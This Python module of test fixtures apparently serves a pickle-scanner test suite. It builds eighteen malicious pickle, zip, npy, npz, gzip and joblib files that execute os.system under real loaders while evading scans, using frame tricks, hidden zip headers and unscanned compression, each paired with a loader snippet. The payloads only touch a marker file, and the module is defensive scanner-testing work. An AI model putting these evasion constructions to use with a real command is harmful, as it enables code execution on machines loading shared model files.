"""Pickle files that run code under one loader or another while an ordinary scan might call them safe:
one attack per class of issue 10, each with the Python snippet that loads it the way a real program
does. Each payload only creates a marker file. The cases of tests/test_scan_verdicts.py, which
bench/bench_scan.py also times the scan on.
"""

from __future__ import annotations

import gzip
import io
import os
import pickle
import struct
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest


class Payload:
    """Pickles as ``os.system("touch MARKER")``."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.marker}",)


def payload(marker: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(Payload(marker), protocol=protocol)


def benign(protocol: int = 2) -> bytes:
    return pickle.dumps(OrderedDict(a=[1, 2.5, "x"]), protocol=protocol)


def frame(body: bytes, declared: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if declared is None else declared) + body


def system_opcodes(marker: Path) -> bytes:
    cmd = f"touch {marker}".encode()
    return b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(cmd)) + cmd + b"\x85R"


# --- the attacks: (file, marker) -> None ----------------------------------------------------------

def frame_straddle(path: Path, marker: Path) -> None:
    """The FRAME says 3 bytes; the opcodes run on past it. _pickle reads on (a frame is read-ahead)."""
    body = b"N0" + system_opcodes(marker) + b"."
    path.write_bytes(b"\x80\x04" + frame(body, declared=3))


def zip_frame_straddle(path: Path, marker: Path) -> None:
    """The same inside a torch archive's data.pkl: what torch.load hands _pickle as a BytesIO."""
    body = b"N0" + system_opcodes(marker) + b"."
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", b"\x80\x04" + frame(body, declared=3))


def frame_too_long(path: Path, marker: Path) -> None:
    """The FRAME claims more bytes than there are: _pickle refuses, pickle.py's _Unframer reads on."""
    path.write_bytes(b"\x80\x04" + frame(system_opcodes(marker) + b".", declared=1 << 20))


def stop_inside_frame(path: Path, marker: Path) -> None:
    """STOP in the middle of a frame, the payload after it in the same frame: a second pickle.load
    on the file object reads it."""
    second = b"\x80\x02" + system_opcodes(marker) + b"."
    path.write_bytes(b"\x80\x04" + frame(b"N." + second))


def after_frame_with_stop(path: Path, marker: Path) -> None:
    """STOP inside a frame; the payload right after the frame, where pickle.py's second load starts
    (its _Unframer has read the whole frame from the file)."""
    second = b"\x80\x02" + system_opcodes(marker) + b"."
    path.write_bytes(b"\x80\x04" + frame(b"N.N.") + second)


def concatenated(path: Path, marker: Path) -> None:
    path.write_bytes(benign(4) + payload(marker))


def string_globals(path: Path, marker: Path) -> None:
    """STACK_GLOBAL fed by SHORT_BINSTRING and BINSTRING: CPython decodes them to str and imports."""
    cmd = f"touch {marker}".encode()
    path.write_bytes(b"\x80\x04U\x05posixT\x06\x00\x00\x00system\x93" + b"C" + bytes([len(cmd)]) + cmd
                     + b"\x85R.")


def string_globals_text(path: Path, marker: Path) -> None:
    path.write_bytes(b"\x80\x02S'posix'\nS'system'\n\x93S'touch " + str(marker).encode() + b"'\n\x85R.")


def zip_other_member(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("model/weights.txt", "1 2 3")
        z.writestr("model/config.pkl", payload(marker))


def zip_unnamed_member(path: Path, marker: Path) -> None:
    """A pickle member named like nothing in particular: found by its content."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", benign())
        z.writestr("archive/extra/blob", payload(marker))


def zip_bzip2_member(path: Path, marker: Path) -> None:
    """A compression method the scan does not inflate (Python's zipfile does)."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", payload(marker), compress_type=zipfile.ZIP_BZIP2)


def zip_hidden_local(path: Path, marker: Path) -> None:
    """A local header the central directory does not list: a streaming unzip extracts it."""
    evil = payload(marker)
    name = b"archive/data.pkl"
    hidden = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(evil), len(evil),
                         len(evil), len(name), 0) + name + evil
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", benign())
    listed = buf.getvalue()
    # shift the listed archive's offsets past the hidden member (zipfile tolerates a prefix by itself)
    path.write_bytes(hidden + listed)


def zip_local_mismatch(path: Path, marker: Path) -> None:
    """The local header names another file than the central directory does."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", payload(marker))
    data = bytearray(buf.getvalue())
    at = data.index(b"archive/data.pkl")  # the local header's copy comes first
    data[at:at + 16] = b"archive/data.pkX"
    path.write_bytes(bytes(data))


def npy_object(path: Path, marker: Path) -> None:
    np.save(path, np.array([Payload(marker), 1], dtype=object), allow_pickle=True)


def npz_member(path: Path, marker: Path) -> None:
    np.savez(path, weights=np.arange(4.0), extra=np.array([Payload(marker)], dtype=object))


def gzip_pickle(path: Path, marker: Path) -> None:
    with gzip.open(path, "wb") as f:
        f.write(payload(marker))


def joblib_file(path: Path, marker: Path) -> None:
    joblib = pytest.importorskip("joblib")
    joblib.dump({"w": np.arange(8, dtype=np.float32), "x": Payload(marker)}, path)


def joblib_compressed(path: Path, marker: Path) -> None:
    joblib = pytest.importorskip("joblib")
    joblib.dump({"w": np.arange(8, dtype=np.float32), "x": Payload(marker)}, path, compress=3)


LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
LOAD_TWICE = "import pickle, sys; f = open(sys.argv[1], 'rb'); pickle.load(f); pickle.load(f)"
LOAD_PY = "import pickle, sys; pickle._Unpickler(open(sys.argv[1], 'rb')).load()"
LOAD_TWICE_PY = ("import pickle, sys; f = open(sys.argv[1], 'rb'); pickle._Unpickler(f).load(); "
                 "pickle._Unpickler(f).load()")
LOAD_MEMBERS = ("import pickle, sys, zipfile; z = zipfile.ZipFile(sys.argv[1])\n"
                "for n in z.namelist():\n"
                "    try: pickle.loads(z.read(n))\n"
                "    except Exception: pass")
LOAD_STREAMING = ("import pickle, struct, sys; d = open(sys.argv[1], 'rb').read(); "
                  "f = struct.unpack_from('<4sHHHHHIIIHH', d); s = 30 + f[9] + f[10]; "
                  "pickle.loads(d[s:s + f[7]])")
LOAD_TORCHLIKE = ("import io, pickle, struct, sys; d = open(sys.argv[1], 'rb').read(); "
                  "i = d.index(b'PK\\x03\\x04'); f = struct.unpack_from('<4sHHHHHIIIHH', d, i); "
                  "s = i + 30 + f[9] + f[10]; pickle.Unpickler(io.BytesIO(d[s:s + f[7]])).load()")
LOAD_NPY = "import numpy, sys; numpy.load(sys.argv[1], allow_pickle=True)"
LOAD_NPZ = "import numpy, sys; z = numpy.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]"
LOAD_GZIP = "import gzip, pickle, sys; pickle.load(gzip.open(sys.argv[1]))"
LOAD_JOBLIB = "import joblib, sys; joblib.load(sys.argv[1])"


@dataclass(frozen=True)
class Attack:
    id: str
    build: Callable[[Path, Path], None]
    control: str  # Python run in a child process with the file's path: it runs the payload
    names: str | None = "posix.system"  # the global the verdict must name, if it can see it
    suffix: str = ".pkl"


ATTACKS = [
    Attack("frame-straddle", frame_straddle, LOAD),
    Attack("frame-too-long", frame_too_long, LOAD_PY),
    Attack("zip-data.pkl-frame-straddle", zip_frame_straddle, LOAD_TORCHLIKE, suffix=".pt"),
    Attack("stop-inside-frame", stop_inside_frame, LOAD_TWICE),
    Attack("after-frame-with-stop-python", after_frame_with_stop, LOAD_TWICE_PY),
    Attack("concatenated", concatenated, LOAD_TWICE),
    Attack("stack-global-binstring", string_globals, LOAD),
    Attack("stack-global-string", string_globals_text, LOAD),
    Attack("zip-config.pkl", zip_other_member, LOAD_MEMBERS, suffix=".zip"),
    Attack("zip-member-by-content", zip_unnamed_member, LOAD_MEMBERS, suffix=".pt"),
    Attack("zip-bzip2-member", zip_bzip2_member, LOAD_MEMBERS, names=None, suffix=".pt"),
    Attack("zip-hidden-local-header", zip_hidden_local, LOAD_STREAMING, suffix=".pt"),
    Attack("zip-local-name-mismatch", zip_local_mismatch, LOAD_TORCHLIKE, suffix=".pt"),
    Attack("npy-object-array", npy_object, LOAD_NPY, suffix=".npy"),
    Attack("npz-object-member", npz_member, LOAD_NPZ, suffix=".npz"),
    Attack("gzip-pickle", gzip_pickle, LOAD_GZIP, suffix=".pkl.gz"),
    Attack("joblib", joblib_file, LOAD_JOBLIB, suffix=".joblib"),
    Attack("joblib-compressed", joblib_compressed, LOAD_JOBLIB, suffix=".joblib"),
]
